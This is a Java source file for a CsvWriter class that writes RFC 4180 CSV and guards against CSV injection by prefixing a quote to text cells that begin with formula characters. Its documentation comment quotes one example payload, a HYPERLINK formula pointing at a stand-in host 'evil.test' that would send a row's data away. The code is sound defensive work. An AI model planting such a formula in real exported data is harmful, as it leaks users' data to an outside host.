package io.gratitude.system;

import java.io.IOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;

import org.jspecify.annotations.Nullable;

/**
 * Every CSV the service writes goes through this writer: RFC 4180 (CRLF line ends; a
 * field holding a comma, a quote or a line break is quoted, its quotes doubled), and safe
 * to open in a spreadsheet.
 * <p>
 * Spreadsheets run a cell that begins with {@code =}, {@code +}, {@code -} or {@code @}
 * (and, in some, a tab, a carriage return or NUL before one) as a formula, whatever the
 * quoting: {@code =HYPERLINK("http://evil.test/?x="&A1,"Click me")} in a contact's
 * reference would become a live link that sends the row away. So a text cell beginning
 * with one of those characters gets a leading {@code '} (OWASP's rule for CSV injection),
 * which spreadsheets take as "this is text" and do not show.
 * <p>
 * Numbers the service computes itself (ids, counts, amounts) are passed as
 * {@link Number}s and written as plain digits without the quote, so that a negative
 * amount such as {@code -12.50} stays a number a spreadsheet can add up: a number written
 * from a {@code Number} cannot hold a formula. Text that merely looks like a number
 * ({@code "-12.50"} as a {@code String}) is text and is neutralised.
 */
public final class CsvWriter {

	/** What a cell must not begin with, or a spreadsheet may run it. */
	private static final String FORMULA_STARTS = "=+-@\t\r\0";

	private final Writer out;

	public CsvWriter(Writer out) {
		this.out = out;
	}

	/**
	 * Writes one record and its line end. Each cell: a {@code null} is empty, an integral
	 * number or a {@link BigDecimal} is written as plain digits, anything else as its
	 * text, neutralised.
	 */
	public void record(List<? extends @Nullable Object> cells) throws IOException {
		for (int i = 0; i < cells.size(); i++) {
			if (i > 0) {
				this.out.write(',');
			}
			this.out.write(cell(cells.get(i)));
		}
		this.out.write("\r\n");
	}

	public void flush() throws IOException {
		this.out.flush();
	}

	/** One cell as {@link #record} writes it. */
	public static String cell(@Nullable Object value) {
		if (value == null) {
			return "";
		}
		if (value instanceof BigDecimal decimal) {
			return decimal.toPlainString();
		}
		if (value instanceof Long || value instanceof Integer || value instanceof Short || value instanceof Byte
				|| value instanceof BigInteger) {
			return value.toString();
		}
		return quoted(neutralised(value.toString()));
	}

	private static String neutralised(String text) {
		return (!text.isEmpty() && FORMULA_STARTS.indexOf(text.charAt(0)) >= 0) ? "'" + text : text;
	}

	private static String quoted(String text) {
		if (text.indexOf(',') < 0 && text.indexOf('"') < 0 && text.indexOf('\n') < 0 && text.indexOf('\r') < 0) {
			return text;
		}
		return '"' + text.replace("\"", "\"\"") + '"';
	}

}
